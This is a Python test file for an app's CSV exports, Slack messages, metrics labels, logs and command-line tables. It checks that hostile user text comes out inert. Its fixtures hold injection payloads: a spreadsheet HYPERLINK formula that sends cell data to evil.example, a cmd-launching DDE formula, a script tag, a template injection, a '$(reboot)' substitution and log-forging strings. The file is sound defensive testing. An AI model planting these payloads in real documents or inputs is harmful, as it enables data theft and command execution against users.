"""Text that means something to whoever reads an output: each output carries it as mere text."""

import csv
import io
import json
import logging
import re
from datetime import timedelta
from decimal import Decimal

import pytest
import structlog

from app.cli.output import printable
from app.cli.sheet import cell
from app.db.schema.tables import attempt, lease, tenant
from app.domain.spreadsheets import inert_text
from app.domain.webhook_formats import WebhookMessage, render
from app.observability.gpu_exposition import exposition
from app.observability.logs import configure_logs
from tests.api.conftest import Caller
from tests.api.test_costs import clock, of, run_job, store
from tests.db.store import Store
from tests.db.usage.histories import Billed, add, end

__all__ = ["store"]  # a fixture

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)",
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "=1",
    "+5",
    "-",
    "\t=1",
    "\r=1",
)
MARKUP = ("<!channel> <@U1> <http://evil.example|click>", "http://evil.example", "&lt;!here&gt;", "*bold* @here")
CONTROLS = (
    "a\nb",
    "a\r\nINFO forged",
    "\x1b[2J\x1b]0;title\x07",
    "a\u202eb",
    "a\u2066b",
    "a\u2028b",
    "\ufeffa",
    "a\x00b",
)
QUOTES = ('a"b', "a\\", 'a\\"} 1\nforged{x="', "<script>alert(1)</script>", "{{7*7}}", "$(reboot)")
HOSTILE = (*FORMULAS, *MARKUP, *CONTROLS, *QUOTES)
NUMBERS = ("0", "-5", "12.50", "-0.000001")
LABEL_VALUES = tuple(text for text in HOSTILE if text.isprintable())
"""What a label may be."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_cells_of_the_api_and_of_the_command_line_are_no_formulas(text: str) -> None:
    assert not inert_text(text).startswith(FORMULA_STARTS)
    assert inert_text(text).removeprefix("'") == text
    assert cell(text) == printable(inert_text(text))


@pytest.mark.parametrize("text", [*NUMBERS, "a=1", "", "x-y", "1+1"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert inert_text(text) == cell(text) == text


async def test_labels_in_the_costs_are_no_formulas(alice: Caller, store: Store) -> None:
    day = clock(store).replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=2)
    for text in LABEL_VALUES:
        one = Billed(day, timedelta(hours=1), Decimal(1))
        attempt_id = add(of(store, alice), one)
        end(store, attempt_id, one.ended)
        store.write(lease, store.row(attempt, attempt_id).lease_id, labels={"note": text})
    run_job(store)
    query = {"from": day.isoformat(), "group_by": "label:note"}
    answer = await alice.get("/v1/costs", params=query, headers={"Accept": "text/csv"})
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert {row["label:note"] for row in rows} == {inert_text(text) for text in LABEL_VALUES}


async def test_names_in_the_export_are_no_formulas(alice: Caller, store: Store) -> None:
    """The rules for names refuse most of these. The export does not rely on it."""
    day = clock(store).replace(day=1, hour=0, minute=0, second=0, microsecond=0) - timedelta(days=3)
    names = [text for text in HOSTILE if "\x00" not in text and "\n" not in text]
    for number, text in enumerate([*names, *NUMBERS]):
        one = Billed(day, timedelta(hours=1), Decimal(1))
        attempt_id = add(of(store, alice), one)
        end(store, attempt_id, one.ended)
        store.write(lease, store.row(attempt, attempt_id).lease_id, name=text, labels={"n": str(number), "note": text})
    store.write(tenant, alice.tenant_id, name=FORMULAS[0])
    run_job(store)
    answer = await alice.get("/v1/costs/focus", params={"month": f"{day:%Y-%m}"})
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert {row["ResourceName"] for row in rows} == {inert_text(text) for text in [*names, *NUMBERS]}
    assert {row["SubAccountName"] for row in rows} == {inert_text(FORMULAS[0])}
    assert {json.loads(row["Tags"])["note"] for row in rows} == {*names, *NUMBERS}
    assert not any(
        value.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+", value)
        for row in rows
        for value in row.values()
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_stays_within_the_label_of_its_metric(text: str) -> None:
    gpu = dict.fromkeys(
        (
            *("sm_clock_mhz", "temperature_c", "power_w", "utilization", "memory_used_mib", "memory_mib"),
            *("ecc_uncorrected", "remap_failed", "throttle"),
        ),
        1,
    )
    names = ("lease_id", "name", "tenant_id", "provider", "region", "instance_type", "gpu_model")
    sample = {"gpus": [{**gpu, "uuid": text}], "cpu_percent": 1, "memory_percent": 1, "disk_percent": 1}
    facts = {"proven": [], "xids": [], "gpu_count": 1, "age_seconds": 1}
    made = exposition([{**dict.fromkeys(names, text), **facts, "sample": sample}])
    value = r'"(?:[^"\\\n]|\\[\\"n])*"'
    line = re.compile(rf"# (?:HELP|TYPE) \w+ [^\n]*|\w+{{\w+={value}(?:,\w+={value})*}} [\d.]+")
    assert all(line.fullmatch(found) for found in made.removesuffix("\n").split("\n"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_line_of_the_log_is_one_line_without_controls(text: str) -> None:
    stream, handlers, level = io.StringIO(), logging.root.handlers, logging.root.level
    known = structlog.get_config()
    try:
        configure_logs("INFO", stream)
        structlog.get_logger("hostile").info(text, name=text)
        logging.getLogger("library").warning("%s", text)
    finally:
        structlog.configure(**known)
        logging.root.handlers = handlers
        logging.root.setLevel(level)
    lines = stream.getvalue().removesuffix("\n").split("\n")
    assert [json.loads(line)["event"] for line in lines] == [text, text]
    assert all(line.isascii() and line.isprintable() for line in lines)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_chat_message_mentions_nobody_and_links_nowhere(text: str) -> None:
    about = {"lease_id": "lease_1", "tenant_id": "tenant_1"}
    told = WebhookMessage(id="event_1", type="lease.active", created_at="x", about=about, sent_at=0, lease_name=text)
    content = json.loads(render("slack", told, ()).body)
    (block,) = content["blocks"]
    assert block["text"]["verbatim"] is True, "Slack makes no links and mentions of plain text"
    for shown in (content["text"], block["text"]["text"]):
        assert "<" not in shown
        assert ">" not in shown


@pytest.mark.parametrize("text", CONTROLS)
def test_a_table_of_the_command_line_moves_no_cursor(text: str) -> None:
    assert all(letter.isprintable() or letter == "\n" for letter in printable(text))
